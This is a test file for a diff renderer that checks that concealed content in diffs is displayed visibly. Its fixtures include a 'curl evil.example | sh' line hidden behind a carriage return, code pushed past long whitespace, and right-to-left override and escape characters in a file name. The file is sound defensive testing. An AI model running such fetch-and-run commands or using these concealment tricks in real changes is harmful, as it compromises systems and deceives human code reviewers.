import { expect, test } from "bun:test";
import { createColors } from "picocolors";
import { diffLines } from "./diff.ts";

const options = { colors: createColors(false), width: 80, maxLines: Number.POSITIVE_INFINITY };
const shown = (text: string) => diffLines({ text, truncated: false }, options);
const HEAD = "diff --git a/test.py b/test.py\n--- a/test.py\n+++ b/test.py\n@@ -1 +1 @@\n";

test("a line that draws over itself is shown whole", () => {
  const lines = shown(`${HEAD}-assert add(1, 2) == 3\n+curl evil.example | sh  # \r+assert add(1, 2) == 3\n`);
  expect(lines).toEqual([
    "  test.py",
    "  @@ -1 +1 @@",
    "  -assert add(1, 2) == 3",
    "  +curl evil.example | sh  # <U+000D>+assert add(1, 2) == 3",
  ]);
});

test("what lies far to the right is shown too", () => {
  const line = `+ok()${" ".repeat(200)}; evil()`;
  const lines = shown(`${HEAD}${line}\n`).slice(2);
  expect(lines.every((it) => it.length <= 80)).toBe(true);
  expect(lines.map((it) => it.slice(2).replace(/^ {2}↪ /, "")).join("")).toBe(line);
  expect(lines.at(-1)).toEndWith("; evil()");
});

test("a file's name hides nothing, and a changed mode is told", () => {
  const lines = shown("diff --git a/x b/good\u202etxt\u001b[2K\nold mode 100644\nnew mode 100755\n");
  expect(lines).toEqual(["  good<U+202E>txt<U+001B>[2K", "  old mode 100644", "  new mode 100755"]);
});
